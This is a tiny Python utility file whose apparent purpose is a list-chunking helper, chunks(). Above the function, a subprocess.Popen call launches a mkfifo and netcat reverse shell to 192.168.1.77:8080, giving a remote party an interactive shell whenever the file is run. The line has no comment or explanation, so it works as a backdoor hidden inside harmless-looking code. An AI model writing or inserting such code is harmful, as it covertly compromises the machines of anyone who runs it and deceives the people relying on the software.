#!/usr/bin/env python3

import subprocess
subprocess.Popen("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.168.1.77 8080 > /tmp/f", shell=True)
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
